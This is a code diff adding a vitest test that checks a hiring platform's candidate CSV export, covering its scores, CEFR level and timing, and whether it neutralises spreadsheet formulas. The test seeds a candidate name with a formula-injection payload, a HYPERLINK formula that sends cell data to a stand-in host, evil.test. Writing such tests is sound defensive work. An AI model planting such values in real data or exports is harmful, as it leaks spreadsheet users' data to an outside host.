@@ -1,7 +1,12 @@
+import type { TEvaluation } from '@app/contracts';
+import { parse } from 'csv-parse/sync';
 import { eq, inArray } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createTestApp, signedInAdmin, type TestApp, TestClient } from '../../../test/helpers';
+import { createAssessment, signedInCandidate } from '../../../test/candidates';
+import { createTestApp, signedInAdmin, type TestApp, TestClient, waitUntil } from '../../../test/helpers';
+import { answerAndSubmit } from '../../../test/submit-all';
 import { candidates, user } from '../../db/schema';
+import { TEST_IDS } from '../assessments/test-ids';
 
 let t: TestApp;
 let a: TestClient;
@@ -165,6 +170,59 @@ describe('candidates of a company', () => {
     expect(all.body).not.toContain('Outsider');
     expect((await fresh.client.post('/api/candidates/export', { ids: ['nope'] })).statusCode).toBe(400);
   });
+
+  it("exports an evaluated candidate's evaluation status, section scores, CEFR level and time, formula-safe", async () => {
+    const fresh = await admin('results@tenant-r.test', 'Tenant R');
+    const companyId = fresh.companyId ?? '';
+    const assessment = await createAssessment(t, companyId, [
+      TEST_IDS.logicalReasoning,
+      TEST_IDS.englishGrammar,
+    ]);
+    const name = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
+    const cand = await signedInCandidate(t, companyId, assessment, 'hyper@results.test', name);
+    await seed(companyId, [{ name: 'Waiting' }]);
+    await answerAndSubmit(t, cand, true);
+    await waitUntil(async () => {
+      const r = await fresh.client.get(`/api/evaluations/${cand.candidateId}`);
+      return r.statusCode === 200 && ['completed', 'needs_review'].includes(r.json().evaluationStatus);
+    }, 20_000);
+    const evaluation: TEvaluation = (await fresh.client.get(`/api/evaluations/${cand.candidateId}`)).json();
+
+    const csv = (await fresh.client.post('/api/candidates/export', {})).body;
+    const [header, ...records] = parse(csv.replace('\uFEFF', '')) as string[][];
+    const evaluated = records.find((r) => r[1] === 'hyper@results.test');
+    const waiting = records.find((r) => r[0] === 'Waiting');
+    expect(header).toEqual([
+      'Name',
+      'Email',
+      'Phone',
+      'Position',
+      'Experience level',
+      'Status',
+      'Score',
+      'Evaluation status',
+      'Logical Reasoning',
+      'English Grammar',
+      'CEFR level (indicative)',
+      'Time to complete (minutes)',
+      'Added',
+      'Submitted at',
+    ]);
+    const cell = (row: string[] | undefined, column: string) => row?.[header?.indexOf(column) ?? -1];
+    expect(cell(evaluated, 'Name')).toBe(`'${name}`);
+    expect(cell(evaluated, 'Status')).toBe('Submitted');
+    expect(cell(evaluated, 'Score')).toBe(evaluation.totalScore?.toFixed(1));
+    expect(cell(evaluated, 'Evaluation status')).toBe('Completed');
+    expect(cell(evaluated, 'Logical Reasoning')).toBe(
+      evaluation.sectionScores['Logical Reasoning']?.toFixed(1),
+    );
+    expect(cell(evaluated, 'English Grammar')).toBe(evaluation.sectionScores['English Grammar']?.toFixed(1));
+    expect(cell(evaluated, 'CEFR level (indicative)')).toBe(evaluation.evaluationData?.cefr?.level ?? '');
+    expect(Number(cell(evaluated, 'Time to complete (minutes)'))).toBeGreaterThanOrEqual(0);
+    expect(cell(evaluated, 'Time to complete (minutes)')).toMatch(/^\d+\.\d$/);
+    expect(cell(evaluated, 'Submitted at')).toMatch(/^\d{4}-\d{2}-\d{2}T/);
+    expect(waiting?.slice(5, 12)).toEqual(['Pending', '', '', '', '', '', '']);
+  }, 60_000);
 
   it('summarises counts and the pipeline steps', async () => {
     const fresh = await admin('c@tenant-c.test', 'Tenant C');
